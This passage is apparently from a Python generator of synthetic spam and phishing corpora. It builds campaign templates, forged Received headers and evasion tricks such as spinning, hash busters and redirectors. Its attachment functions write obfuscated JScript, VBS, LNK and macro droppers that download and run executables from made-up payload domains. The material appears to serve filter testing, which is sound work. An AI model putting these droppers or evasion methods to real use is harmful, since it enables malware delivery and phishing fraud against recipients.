    if value.isascii():
        return value
    return "=?UTF-8?B?" + base64.b64encode(value.encode()).decode() + "?="


def fold(name: str, value: str) -> str:
    """One header field, folded at whitespace near 76 columns (RFC 5322 2.2.3)."""
    out, line = [], f"{name}:"
    for word in value.split(" "):
        if len(line) + 1 + len(word) > 76 and len(line) > len(name) + 1:
            out.append(line)
            line = "\t" + word
        else:
            line += " " + word
    out.append(line)
    return "\r\n".join(out)


def b64_lines(data: bytes) -> str:
    enc = base64.b64encode(data).decode()
    return "\r\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def qp_text(text: str) -> tuple[str, str]:
    """(Content-Transfer-Encoding, body) for a text part: 7bit when ASCII with short lines,
    quoted-printable when a line is long (RFC 5322 caps lines at 998), base64 when not ASCII."""
    crlf = text.replace("\n", "\r\n")
    if not text.isascii():
        return "base64", b64_lines(crlf.encode())
    if all(len(line) <= MAX_7BIT_LINE for line in text.split("\n")):
        return "7bit", crlf
    encoded = quopri.encodestring(text.encode()).decode().replace("\n", "\r\n")
    return "quoted-printable", encoded


def rfc2822_date(t: dt.datetime) -> str:
    days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
    off = t.utcoffset() or dt.timedelta(0)
    mins = int(off.total_seconds() // 60)
    sign = "+" if mins >= 0 else "-"
    mins = abs(mins)
    return (f"{days[t.weekday()]}, {t.day:02d} {months[t.month - 1]} {t.year} "
            f"{t.hour:02d}:{t.minute:02d}:{t.second:02d} {sign}{mins // 60:02d}{mins % 60:02d}")


# --- attachments (inert, structurally valid) -------------------------------------------------

def zip_bytes(entries: list[tuple[str, bytes]], when: dt.datetime) -> bytes:
    buf = io.BytesIO()
    stamp = (max(when.year, 1980), when.month, when.day, when.hour, when.minute, when.second & ~1)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def js_dropper(rng: random.Random, style: int, url: str) -> bytes:
    """A never-run JScript downloader skeleton; identifiers and junk differ per recipient."""
    v = [token(rng, rng.randint(5, 10)).lower() for _ in range(6)]
    v = ["_" + x if x[0].isdigit() else x for x in v]
    junk = "\n".join(f"// {token(rng, rng.randint(20, 60))}" for _ in range(rng.randint(3, 9)))
    parts = [url[i:i + rng.randint(3, 7)] for i in range(0, len(url), 5)]
    joined = " + ".join(f'"{p}"' for p in parts)
    if style == 0:
        body = (f"var {v[0]} = new ActiveXObject(\"WScript.Shell\");\n"
                f"var {v[1]} = new ActiveXObject(\"MSXML2.XMLHTTP\");\n"
                f"var {v[2]} = {joined};\n"
                f"{v[1]}.open(\"GET\", {v[2]}, false); {v[1]}.send();\n"
                f"var {v[3]} = new ActiveXObject(\"ADODB.Stream\"); {v[3]}.Open(); {v[3]}.Type = 1;\n"
                f"{v[3]}.Write({v[1]}.ResponseBody); {v[3]}.SaveToFile(\"%TEMP%\\\\{v[4]}.exe\", 2);\n"
                f"{v[0]}.Run(\"%TEMP%\\\\{v[4]}.exe\", 0);\n")
    elif style == 1:
        codes = ",".join(str(ord(c) + 7) for c in url)
        body = (f"function {v[0]}({v[1]}){{var {v[2]}='';for(var i=0;i<{v[1]}.length;i++)"
                f"{{{v[2]}+=String.fromCharCode({v[1]}[i]-7);}}return {v[2]};}}\n"
                f"var {v[3]}=[{codes}];\n"
                f"var {v[4]}=WScript.CreateObject('WScript.Shell');\n"
                f"{v[4]}.Run('powershell -w hidden -c \"iwr '+{v[0]}({v[3]})+' -OutFile $env:TEMP\\\\"
                f"{v[5]}.dll; rundll32 $env:TEMP\\\\{v[5]}.dll,DllRegisterServer\"',0);\n")
    else:
        body = (f"try {{ var {v[0]} = GetObject(\"winmgmts:root\\\\cimv2:Win32_Process\");\n"
                f"  var {v[1]} = [{joined}].join('');\n"
                f"  {v[0]}.Create(\"mshta \" + {v[1]}, null, null, 0); }} catch ({v[2]}) {{ }}\n")
    return (junk + "\n" + body + junk[::-1] + "\n").encode()


def vbs_dropper(rng: random.Random, url: str) -> bytes:
    v = ["x" + token(rng, rng.randint(4, 9)) for _ in range(4)]
    chunks = " & ".join(f'"{url[i:i + 6]}"' for i in range(0, len(url), 6))
    junk = "\n".join(f"' {token(rng, rng.randint(20, 50))}" for _ in range(rng.randint(3, 8)))
    return (f"{junk}\nDim {v[0]}, {v[1]}\nSet {v[0]} = CreateObject(\"WScript.Shell\")\n"
            f"{v[1]} = {chunks}\n{v[0]}.Run \"powershell -nop -w hidden -c iex(iwr \" & {v[1]} & \")\", 0\n"
            f"Set {v[2]} = Nothing\n").encode()


def lnk_bytes(rng: random.Random, url: str) -> bytes:
    """Shell-link header (magic + LinkCLSID) then an obfuscated PowerShell command line."""
    header = (b"\x4c\x00\x00\x00" + bytes.fromhex("0114020000000000c000000000000046")
              + b"\x9b\x00\x08\x00" + bytes(rng.getrandbits(8) for _ in range(52)))
    cmd = (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -ep bypass -c "
           f"\"$u='{url}';$p=$env:TEMP+'\\{token(rng, 8)}.exe';(New-Object Net.WebClient)"
           f".DownloadFile($u,$p);Start-Process $p\"")
    return header + cmd.encode("utf-16-le") + bytes(rng.getrandbits(8) for _ in range(rng.randint(64, 512)))


def ole_bytes(rng: random.Random, url: str, macro_names: list[str]) -> bytes:
    """OLE2 magic and header shape, then filler with macro-looking strings; never a real doc."""
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
              + b"\x06\x00" + bytes(10) + b"\x01\x00\x00\x00" + bytes(8) + b"\x00\x10\x00\x00")
    header += bytes(512 - len(header))
    sub = token(rng, 7)
    strings = (f"Attribute VB_Name = \"ThisDocument\"\r\nSub {macro_names[0]}()\r\n"
               f"  Dim {sub} As Object\r\n  Set {sub} = CreateObject(\"WScript.Shell\")\r\n"
               f"  {sub}.Run \"cmd /c certutil -urlcache -f {url} %TEMP%\\{token(rng, 6)}.exe\"\r\n"
               f"End Sub\r\nSub {macro_names[1]}()\r\n  {macro_names[0]}\r\nEnd Sub\r\n").encode()
    filler = bytes(rng.getrandbits(8) for _ in range(rng.randint(3000, 6000)))
    return header + filler[:1500] + strings + filler[1500:]


def iso_bytes(rng: random.Random, inner_name: str, inner: bytes, volume: str) -> bytes:
    """ISO 9660 look: 16 empty system sectors, a primary volume descriptor, the file's bytes."""
    pvd = (b"\x01CD001\x01\x00" + b"WIN32".ljust(32) + volume.upper().encode()[:32].ljust(32)
           + bytes(rng.getrandbits(8) for _ in range(64)))
    pvd += bytes(2048 - len(pvd))
    term = b"\xffCD001\x01" + bytes(2041)
    entry = inner_name.upper().encode() + b";1"
    return bytes(16 * 2048) + pvd + term + entry.ljust(2048, b"\x00") + inner


# --- campaigns -------------------------------------------------------------------------------

@dataclass
class Campaign:
    label: str
    kind: str
    sub: str
    size: int
    start: dt.datetime
    duration: dt.timedelta
    brand: str | None
    description: str
    subjects: list[str]
    slots: list[list[str]]          # paragraphs: each a list of alternatives (1 = fixed)
    fixed_first: int                # leading paragraphs never shuffled (greeting)
    fixed_last: int                 # trailing paragraphs never shuffled (closing, signature)
    reorder_p: float
    own_domains: list[str]
    url_prefix: str
    brand_domains: list[str]
    sender_domains: list[str]
    display_names: list[str]
    local_style: int
    nets: list[tuple[int, int]]
    helo_style: int
    x_mailers: list[str]
    msgid_style: int
    tz_minutes: int
    html_p: float                   # probability of an HTML part
    alt_p: float                    # probability of a text/plain alternative next to HTML
    text_only: bool
    attachment: str | None          # zip-js, zip-vbs, zip-lnk, office, iso
    att_pattern: str = ""
    js_style: int = 0
    macro_names: list[str] = field(default_factory=list)
    payload_domain: str = ""
    inv_style: int = 0
    currency: str = "$"
    company: str = ""
    product: str = ""
    kit_css: str = ""
    reply_to: str | None = None
    button: list[str] = field(default_factory=list)
    buster: bool = False
    language: str = "en"
    spin: bool = False              # per-message synonym rewriting
    redirectors: bool = False       # links on a fresh compromised host per message
    hosting: str | None = None      # links on a big shared service: gcs, firebase, shortener
    bucket: str = ""                # the campaign's bucket on that service


def pick_some(rng, pool, lo, hi):
    return rng.sample(pool, min(len(pool), rng.randint(lo, hi)))


def own_sentences(rng: random.Random, family: str, n: int) -> list[str]:
    """Sentences only this campaign uses: its kit's own wording."""
    return [kit_sentence(rng, family) for _ in range(n)]


def family_of(kind: str, sub: str) -> str:
    if kind == "dutch":
        return "nl"
    if kind == "phish":
        return {"parcel": "parcel", "webmail": "webmail"}.get(sub, "account")
    if kind == "scam":
        return "bec" if sub == "bec" else "scam"
    return {"invoice": "invoice", "pharma": "pharma"}[kind]


def make_campaign(rng: random.Random, index: int, size: int, window_start: dt.datetime,
                  window: dt.timedelta, used: set) -> Campaign:
    kind, sub = KIND_CYCLE[index % len(KIND_CYCLE)]
    family = family_of(kind, sub)
    label = f"c{index + 1:03d}"
    duration = dt.timedelta(minutes=rng.randint(60, 3 * 24 * 60))
    start = window_start + dt.timedelta(seconds=rng.randrange(
        max(1, int((window - duration).total_seconds()))))
    brand = None
    lang = "en"
    slots: list[list[str]] = []
    bank = None
    text_only, html_p, alt_p = False, 1.0, rng.choice([0.0, 0.5, 1.0])
    attachment = None
    if kind == "phish":
        brand = {"parcel": rng.choice(["dhl", "ups"]), "bank": rng.choice(["ing", "abnamro"]),
                 "webmail": "webmail"}.get(sub, sub)
        bank = PHISH["parcel" if sub == "parcel" else "webmail" if sub == "webmail" else "account"]
    elif kind == "dutch":
        lang = "nl"
        brands = DUTCH_BRAND[sub]
        brand = rng.choice(brands) if brands else None
        bank = DUTCH[sub]
        if sub == "factuur":
            attachment = rng.choice([None, "zip-js", "office"])
    elif kind == "invoice":
        bank = INVOICE
        attachment = sub
        html_p = rng.choice([0.0, 0.3])
    brand_name, brand_domains = BRANDS.get(brand, (None, []))[0], list(BRANDS.get(brand, (None, []))[1])
    if kind in ("phish", "dutch") and sub != "factuur":
        # Kits show the brand's logo and footer from its real site, on top of their own pages.
        brand_domains += rng.sample(["microsoft.com", "google.com", "apple.com", "paypal.com"], 1)
    company = rng.choice(COMPANIES)
    own = [made_up_domain(rng, used, brand if brand and rng.random() < 0.5 else "")
           for _ in range(rng.randint(1, 3))]
    nl = lang == "nl"
    greeting_pool = DUTCH_GREETING if nl else INVOICE["greeting"]
    closing_pool = DUTCH_CLOSING if nl else INVOICE["closing"]
    subjects_pool: list[str]
    if kind in ("invoice", "phish", "dutch"):
        subjects_pool = bank["subject"]
        greet = [rng.choice(greeting_pool)]
        opener = pick_some(rng, bank["opener"], 1, 1)
        details = rng.sample(bank["detail"], 2)
        action = [rng.choice(bank["action"])]
        mine = own_sentences(rng, family, rng.randint(2, 3))
        slots = [greet, opener, [details[0]], [mine[0]], [details[1]], [" ".join(mine[1:])]]
        if kind == "invoice":
            slots.append(action)
        fixed_first = 1
        closing = [rng.choice(closing_pool)]
        slots += [closing, ["{sender_name}\n{role}\n{company}" if kind == "invoice"
                            else "{brand_name}" if brand_name else "{company}"]]
        fixed_last = 2
        button = action
    else:
        group = SCAM if kind == "scam" else PHARMA
        bank = group[sub]
        subjects_pool = bank["subject"]
        text_only = kind == "scam"
        html_p = 0.0 if text_only else 1.0
        chosen = rng.sample(bank["sentences"], min(len(bank["sentences"]), rng.randint(4, 6)))
        mine = own_sentences(rng, family, rng.randint(2, 4))
        body = chosen + mine
        rng.shuffle(body)
        if kind == "scam":
            greet = [rng.choice(["Dear {first},", "Dear Friend,", "Hello {name},", "Attention: {name},",
                                 "Good day {first},"])]
            closing = [rng.choice(bank["closing"]), "{sender_name}"]
            slots = [greet] + [[" ".join(body[i:i + 2])] for i in range(0, len(body), 2)] \
                + [[closing[0]], [closing[1]]]
            fixed_first, fixed_last = 1, 2
        else:
            slots = [[" ".join(body[i:i + 2])] for i in range(0, len(body), 2)]
            slots.append(["Unsubscribe: {unsub}"])
            fixed_first, fixed_last = 0, 1
        button = [rng.choice(["Order now", "Claim your bonus", "Shop now", "Get started"])]
    # 2–4 variants of 1–2 sentences: the kit author's own rewording across sends.
    variable = [i for i in range(fixed_first, len(slots) - fixed_last)]
    for i in rng.sample(variable, min(len(variable), rng.randint(1, 2))):
        alts = [slots[i][0]]
        for _ in range(rng.randint(1, 3)):
            alts.append(rng.choice([kit_sentence(rng, family),
                                     kit_sentence(rng, family) + " " + slots[i][0]]))
        slots[i] = alts
    subjects = pick_some(rng, subjects_pool, 2, 4)
    marks = ["Ref", "Nr.", "Kenmerk"] if lang == "nl" else ["Ref", "ID", "No.", "Case"]
    own_subject = (" - " + rng.choice(marks) + " {inv}") if rng.random() < 0.3 else ""
    subjects = [s + own_subject for s in subjects]
    freemail = rng.sample(FREEMAIL, rng.randint(1, 3))
    compromised = [made_up_domain(rng, used) for _ in range(rng.randint(0, 3))]
    sender_domains = freemail + compromised if kind in ("invoice", "scam") or rng.random() < 0.5 \
        else compromised + [made_up_domain(rng, used)]
    if brand_name:
        display = [brand_name, f"{brand_name} Service", f"{brand_name} Support",
                   f"Service@{brand_name}"][:rng.randint(1, 4)]
    elif kind == "invoice" or sub == "factuur":
        display = [f"{rng.choice(FIRST)} {rng.choice(LAST)}" for _ in range(rng.randint(3, 8))]
    elif kind == "scam":
        display = [rng.choice(["Barrister", "Dr.", "Mrs.", "Mr.", "CEO"]) + f" {rng.choice(FIRST)} "
                   f"{rng.choice(LAST)}"]
    else:
        display = [rng.choice(["Online Pharmacy", "Health Deals", "Special Offers", "VIP Club",
                               "Customer Care", "Deals Team"])]
    js_style = rng.randrange(3)
    att_pattern = ""
    if attachment:
        base = rng.choice(["Invoice_{inv}", "INV-{inv}", "Payment_{compact}", "scan_{inv}",
                           "Order{inv}", "Remittance_{inv}", "Statement_{inv}", "document_{inv}"]
                          if not nl else ["Factuur_{inv}", "factuur-{inv}", "Betaling_{compact}"])
        att_pattern = base
    c = Campaign(
        label=label, kind=kind, sub=sub, size=size, start=start, duration=duration, brand=brand,
        description=" ".join(x for x in (
            f"{kind}/{sub}", brand, f"+{attachment}" if attachment and attachment != sub else None,
            f"on {own[0]}" if kind != "scam" else None) if x),
        subjects=subjects, slots=slots, fixed_first=fixed_first, fixed_last=fixed_last,
        reorder_p=rng.choice([0.0, 0.25, 0.5]), own_domains=own,
        url_prefix=rng.choice(["", "secure/", "login/", "wp-content/plugins/", "verify/", "s/",
                               "track/", "account/update/", "~user/", "web/", "mx/"])
        + token(rng, rng.randint(3, 6)).lower() + "/",
        brand_domains=brand_domains, sender_domains=sender_domains, display_names=display,
        local_style=rng.randrange(4), nets=rng.sample(BOTNET_NETS, rng.randint(2, 4)),
        helo_style=rng.randrange(4), x_mailers=rng.sample(X_MAILERS, rng.randint(0, 2)),
        msgid_style=rng.randrange(4), tz_minutes=rng.choice([-300, -240, 0, 60, 120, 180, 330, 480]),
        html_p=html_p, alt_p=alt_p, text_only=text_only, attachment=attachment,
        att_pattern=att_pattern, js_style=js_style,
        macro_names=[rng.choice(["AutoOpen", "Document_Open", "Workbook_Open"]), token(rng, 8)],
        payload_domain=made_up_domain(rng, used), inv_style=rng.randrange(4),
        currency="€" if nl else rng.choice(["$", "EUR ", "£", "USD "]), company=company,
        product=rng.choice(bank["products"]) if "products" in bank else "",
        kit_css=rng.choice(["#003087", "#0070ba", "#d40511", "#ff6200", "#e50914", "#000000", "#1a73e8"])
        + "|" + token(rng, 5).lower(),
        reply_to=rng.choice(FREEMAIL) if kind == "scam" else None,
        button=button, buster=kind == "pharma" and rng.random() < 0.5, language=lang,
        spin=rng.random() < 0.4,
        redirectors=kind in ("phish", "pharma", "dutch") and rng.random() < 0.25,
        hosting=rng.choice(["gcs", "firebase", "shortener"])
        if kind in ("phish", "pharma", "dutch") and rng.random() < 0.2 else None,
        bucket=rng.choice(DOMAIN_WORDS) + "-" + token(rng, rng.randint(6, 10)).lower(),
    )
    tricks = [name for name, on in (("spin", c.spin), ("buster", c.buster),
                                    ("redirectors", c.redirectors and not c.hosting),
                                    (f"hosted:{c.hosting}", c.hosting)) if on]
    if c.hosting or c.redirectors:
        c.description = c.description.replace(f" on {own[0]}", "")  # its links go elsewhere
    if tricks:
        c.description += " [" + ",".join(tricks) + "]"
    return c


# --- one message -----------------------------------------------------------------------------

def recipient(rng: random.Random) -> dict:
    first, last = rng.choice(FIRST), rng.choice(LAST)
    domain = rng.choice(TRAP_DOMAINS)
    if rng.random() < 0.7:
        local = rng.choice([f"{first}.{last}", f"{first[0]}.{last}", f"{first}{digits(rng, 2)}",
                            f"{first}"]).lower().replace(" ", "")
        name = f"{first} {last}"
    else:
        local = rng.choice(ROLES) + (digits(rng, 1) if rng.random() < 0.3 else "")
        first = last = name = local.capitalize()
    return {"email": f"{local}@{domain}", "name": name, "first": first, "last": last}


def invoice_number(rng, style):
    return [lambda: digits(rng, 5), lambda: "INV-" + digits(rng, 6), lambda: digits(rng, 4) + "-" +
            digits(rng, 4), lambda: letters(rng, 2) + digits(rng, 7)][style]()


def amount(rng, currency):
    value = rng.randint(80, 9_800) + rng.randint(0, 99) / 100
    if currency == "€":
        whole = f"{int(value):,}".replace(",", ".")
        return f"€ {whole},{int(round(value * 100)) % 100:02d}"
    return f"{currency}{value:,.2f}"


def tracking(rng):
    style = rng.choice(TRACK_STYLES)
    return style.format(letters4=letters(rng, 4), letters3=letters(rng, 3), digits9=digits(rng, 9),
                        digits8=digits(rng, 8), digits12=digits(rng, 12), digits11=digits(rng, 11))


def sending_ip(rng, nets):
    a, b = rng.choice(nets)
    return f"{a}.{b}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def helo_for(rng, style, ip):
    a, b, c, d = ip.split(".")
    return [lambda: f"[{ip}]", lambda: f"{d}-{c}-{b}-{a}.dyn.{rng.choice(ISPS)}.net",
            lambda: token(rng, rng.randint(6, 10)).upper(), lambda: f"user-PC{digits(rng, 3)}"][style]()


def received_chain(rng, c: Campaign | None, ip: str, helo: str, rcpt: str, when: dt.datetime,
                   sender_domain: str) -> list[str]:
    """1–3 hops, newest first: the trap's MX from the bot, then optional hops inside the sender."""
    a, b, cc, d = ip.split(".")
    rdns = rng.choice([f"{d}-{cc}-{b}-{a}.static.{rng.choice(ISPS)}.net", "unknown",
                       f"host{d}.{cc}.{b}.{a}.in-addr.{rng.choice(ISPS)}.com"])
    trap_domain = rcpt.split("@", 1)[1]
    hops = [fold("Received", f"from {helo} ({rdns} [{ip}]) by mx1.{trap_domain} (Postfix) with "
                 f"ESMTP id {letters(rng, 10, 'ABCDEF0123456789')} for <{rcpt}>; {rfc2822_date(when)}")]
    t = when
    for _ in range(rng.randint(0, 2)):
        t = t - dt.timedelta(seconds=rng.randint(1, 40))
        inner = f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"
        if rng.random() < 0.5:
            hops.append(fold("Received", f"from [{inner}] (unknown [{inner}]) by mail.{sender_domain} "
                             f"with ESMTPA id {token(rng, 12)}; {rfc2822_date(t)}"))
        else:
            hops.append(fold("Received", f"from localhost (127.0.0.1) by {helo} with SMTP; "
                             f"{rfc2822_date(t)}"))
    return hops


def message_id(rng, style, domain):
    if style == 0:
        return f"<{token(rng, 20).lower()}.{digits(rng, 10)}@{domain}>"
    if style == 1:
        h = "".join(rng.choice("0123456789abcdef") for _ in range(32))
        return f"<{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}@{domain}>"
    if style == 2:
        return f"<{digits(rng, 14)}.{token(rng, 6).upper()}@{letters(rng, 8).lower()}>"
    return f"<{token(rng, 12)}$0{digits(rng, 4)}$@{domain}>"


def sender_address(rng, style, domain, name):
    first, _, last = name.partition(" ")
    local = [lambda: token(rng, rng.randint(6, 10)).lower(),
             lambda: f"{first}.{last}".lower().replace(" ", "").replace("@", "") or token(rng, 8),
             lambda: f"noreply{digits(rng, 4)}", lambda: f"{letters(rng, 5).lower()}{digits(rng, 3)}"][style]()
    return f"{local}@{domain}"


def render_html(c: Campaign, paras: list[str], after: list[str], link: str, logo: str,
                footer: list[str]) -> str:
    """The kit's HTML: its own colour and class names, the brand's logo, a button, a footer."""
    color, cls = c.kit_css.split("|")

    def rows_of(ps):
        return "".join(f"<p class=\"{cls}-p\">{p.replace(chr(10), '<br>')}</p>\n" for p in ps)
    rows = rows_of(paras)
    foot = " | ".join(f"<a href=\"{u}\">{u.split('/')[2]}</a>" for u in footer)
    button = (f"<p><a class=\"{cls}-btn\" href=\"{link}\" style=\"background:{color};color:#fff;"
              f"padding:10px 18px;text-decoration:none\">{c.button[0]}</a></p>\n") if link else ""
    img = f"<img src=\"{logo}\" alt=\"logo\" width=\"120\">\n" if logo else ""
    return (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><style>.{cls}-p{{font-family:Arial;"
            f"font-size:14px}}</style></head>\n<body>\n<div class=\"{cls}\">\n{img}{rows}{button}{rows_of(after)}"
            f"<hr><small>{foot}</small>\n</div>\n</body></html>\n")


def campaign_message(rng: random.Random, c: Campaign, when: dt.datetime) -> bytes:
    r = recipient(rng)
    tz = dt.timezone(dt.timedelta(minutes=c.tz_minutes))
    local_when = when.astimezone(tz)
    due = local_when + dt.timedelta(days=rng.randint(-10, 21))
    inv = invoice_number(rng, c.inv_style)
    sender_name = rng.choice(c.display_names)
    sender_domain = rng.choice(c.sender_domains)
    from_addr = sender_address(rng, c.local_style, sender_domain, sender_name)
    own = rng.choice(c.own_domains)
    if c.hosting:
        link = hosted_link(rng, c)
    elif c.redirectors:
        link = f"https://{compromised_host(rng)}/wp-includes/{c.url_prefix}{token(rng, rng.randint(8, 24))}"
    else:
        host = rng.choice(["", "www.", "secure.", "login."]) + own
        link = f"https://{host}/{c.url_prefix}{token(rng, rng.randint(8, 24))}"
    if c.kind == "pharma":
        link += f"?id={digits(rng, 6)}"
    values = {
        "name": r["name"], "first": r["first"], "last": r["last"], "email": r["email"], "inv": inv,
        "amount": amount(rng, c.currency), "big_amount": f"US${rng.randint(3, 40)},{rng.randint(100, 999)},000.00",
        "date": due.strftime("%d-%m-%Y" if c.language == "nl" else rng.choice(["%B %d, %Y", "%d/%m/%Y"])),
        "compact": due.strftime("%Y%m%d"), "days": rng.randint(2, 30), "track": tracking(rng),
        "company": c.company, "sender_name": sender_name, "role": rng.choice(JOB_TITLES),
        "brand": BRANDS.get(c.brand, ("", []))[0] if c.brand else c.company,
        "brand_name": BRANDS.get(c.brand, ("", []))[0] if c.brand else c.company,
        "product": c.product, "city": rng.choice(CITIES),
        "unsub": f"https://{own}/u/{token(rng, 10)}", "card": digits(rng, 4),
    }
    paras = [fill(rng.choice(slot), values) for slot in c.slots]
    head, mid, tail = paras[:c.fixed_first], paras[c.fixed_first:len(paras) - c.fixed_last], \
        paras[len(paras) - c.fixed_last:]
    if len(mid) > 1 and rng.random() < c.reorder_p:
        rng.shuffle(mid)
    if c.spin:
        head = [spin(rng, p, c.language) for p in head]
        mid = [spin(rng, p, c.language) for p in mid]
    if c.buster:
        mid.append(paragraph(rng, 1, 2))  # hash buster: random words per message, as real pill spam
    paras = head + mid + tail
    has_link = c.kind in ("phish", "pharma") or (c.kind == "dutch" and not c.attachment)
    subject = fill(rng.choice(c.subjects), values)
    if rng.random() < 0.15:
        subject = rng.choice(["RE: ", "Fw: ", "FW: ", "[EXTERNAL] "]) + subject
    logo = f"https://www.{c.brand_domains[0]}/logo.png" if c.brand_domains else ""
    footer = [f"https://www.{d}/{rng.choice(['privacy', 'legal', 'help', 'security'])}"
              for d in c.brand_domains]
    text = "\n\n".join(paras)
    if has_link:
        text = "\n\n".join(head + mid + [f"{c.button[0]}: {link}"] + tail)
    html = None
    if not c.text_only and rng.random() < c.html_p:
        html = render_html(c, head + mid, tail, link if has_link else "", logo, footer)
    # MIME tree
    body_parts: list[tuple[str, str, str]] = []  # (content-type, cte, payload)
    if html is None or rng.random() < c.alt_p:
        cte, payload = qp_text(text + "\n")
        body_parts.append(("text/plain; charset=\"utf-8\"", cte, payload))
    if html is not None:
        cte, payload = qp_text(html)
        body_parts.append(("text/html; charset=\"utf-8\"", cte, payload))
    attachment = make_attachment(rng, c, values, local_when) if c.attachment else None
    ip = sending_ip(rng, c.nets)
    helo = helo_for(rng, c.helo_style, ip)
    headers = received_chain(rng, c, ip, helo, r["email"], when, sender_domain)
    headers += [f"Date: {rfc2822_date(local_when)}",
                fold("From", f"\"{encode_header(sender_name)}\" <{from_addr}>"),
                f"To: {r['email']}" if rng.random() < 0.5 else f"To: \"{r['name']}\" <{r['email']}>",
                fold("Subject", encode_header(subject)),
                f"Message-ID: {message_id(rng, c.msgid_style, sender_domain)}"]
    if c.reply_to:
        headers.append(f"Reply-To: {token(rng, 8).lower()}@{c.reply_to}")
    if c.x_mailers:
        headers.append(f"X-Mailer: {rng.choice(c.x_mailers)}")
    return assemble(rng, headers, body_parts, attachment)


def make_attachment(rng, c: Campaign, values: dict, when: dt.datetime) -> tuple[str, str, bytes]:
    """(filename, content type, bytes): per-recipient bytes, campaign-wide structure and name."""
    base = fill(c.att_pattern, values)
    url = f"http://{c.payload_domain}/{token(rng, 6).lower()}/{token(rng, 10)}.{rng.choice(['bin', 'dat', 'png'])}"
    kind = c.attachment
    if kind == "zip-js":
        inner = js_dropper(rng, c.js_style, url)
        name = base + rng.choice([".js", ".pdf.js"]) if c.js_style != 2 else base + ".js"
        return base + ".zip", "application/zip", zip_bytes([(name, inner)], when)
    if kind == "zip-vbs":
        return base + ".zip", "application/zip", zip_bytes([(base + ".vbs", vbs_dropper(rng, url))], when)
    if kind == "zip-lnk":
        return base + ".zip", "application/x-zip-compressed", \
            zip_bytes([(base + ".pdf.lnk", lnk_bytes(rng, url))], when)
    if kind == "iso":
        inner = lnk_bytes(rng, url)
        return base + ".img", "application/octet-stream", iso_bytes(rng, base + ".lnk", inner, base)
    ext = ".doc" if c.macro_names[0] != "Workbook_Open" else ".xls"
    mime = "application/msword" if ext == ".doc" else "application/vnd.ms-excel"
    return base + ext, mime, ole_bytes(rng, url, c.macro_names)


def assemble(rng, headers: list[str], body_parts, attachment) -> bytes:
    """Headers + MIME body as CRLF bytes; boundaries come from rng so output is reproducible."""
    def boundary():
        return "----=_Part_" + digits(rng, 6) + "_" + token(rng, 16)

    lines = list(headers) + ["MIME-Version: 1.0"]
    if len(body_parts) == 1:
        body_ct, body_cte, body_payload = body_parts[0]
        body = None
    else:
        b = boundary()
        body_ct = f"multipart/alternative; boundary=\"{b}\""
        chunks = [f"--{b}\r\nContent-Type: {ct}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n{payload}\r\n"
                  for ct, cte, payload in body_parts]
        body = "".join(chunks) + f"--{b}--\r\n"
        body_cte, body_payload = None, None
    if attachment is None:
        lines.append(fold("Content-Type", body_ct))
        if body is None:
            lines.append(f"Content-Transfer-Encoding: {body_cte}")
            return ("\r\n".join(lines) + "\r\n\r\n" + body_payload + "\r\n").encode()
        return ("\r\n".join(lines) + "\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n"
                + body).encode()
    name, mime, data = attachment
    outer = boundary()
    lines.append(fold("Content-Type", f"multipart/mixed; boundary=\"{outer}\""))
    first = f"--{outer}\r\nContent-Type: {body_ct}\r\n"
    first += (f"Content-Transfer-Encoding: {body_cte}\r\n\r\n{body_payload}\r\n" if body is None
              else f"\r\n{body}")
    att = (f"--{outer}\r\nContent-Type: {mime}; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n"
           f"Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{b64_lines(data)}\r\n")
    return ("\r\n".join(lines) + "\r\n\r\n" + first + att + f"--{outer}--\r\n").encode()


# --- noise -----------------------------------------------------------------------------------

def noise_message(rng: random.Random, when: dt.datetime, used: set) -> bytes:
    """A one-off: random topic spam, a newsletter or a legitimate-looking mail; some are lone
    lookalikes of a campaign kind (same stock phrases and brands, own wording and domains)."""
    if rng.random() < LOOKALIKE_SHARE:
        lone = make_campaign(rng, rng.randrange(len(KIND_CYCLE)), 1, WINDOW_START, WINDOW, used)
        return campaign_message(rng, lone, when)
    r = recipient(rng)
    style = rng.randrange(4)
    domain = made_up_domain(rng, used) if rng.random() < 0.85 else rng.choice(FREEMAIL)
    name = f"{rng.choice(FIRST)} {rng.choice(LAST)}" if style != 1 else \
        f"The {rng.choice(ADJ).capitalize()} {rng.choice(NOUN).capitalize()}"
    from_addr = sender_address(rng, rng.randrange(4), domain, name)
    topic = f"{rng.choice(ADJ)} {rng.choice(NOUN)}"
    if style == 0:      # one-off spam on a random topic
        subject = rng.choice([f"{rng.choice(TOPIC_OPENERS)}: {topic}", f"Your {topic} is ready",
                              f"{topic.capitalize()} - {rng.randint(10, 90)}% off", "Hello", "Invoice",
                              "Important", f"Re: {topic}"])
        paras = [paragraph(rng) for _ in range(rng.randint(2, 4))]
        link = f"https://{made_up_domain(rng, used)}/{token(rng, rng.randint(4, 12))}"
        paras.append(f"More: {link}")
    elif style == 1:    # newsletter
        subject = f"{name} newsletter #{rng.randint(1, 300)}: {topic}"
        paras = [f"{rng.choice(TOPIC_OPENERS)}!"] + [paragraph(rng, 3, 5) for _ in range(rng.randint(2, 5))]
        paras.append(f"Read online: https://news.{domain}/{rng.randint(1, 999)}\n"
                     f"Unsubscribe: https://news.{domain}/unsubscribe?u={token(rng, 12)}")
    elif style == 2:    # legitimate-looking personal or business mail
        subject = rng.choice([f"Re: {topic}", f"{topic.capitalize()} on {rng.choice(['Monday', 'Friday'])}",
                              "Quick question", f"Minutes: {topic}", "Payment confirmation"])
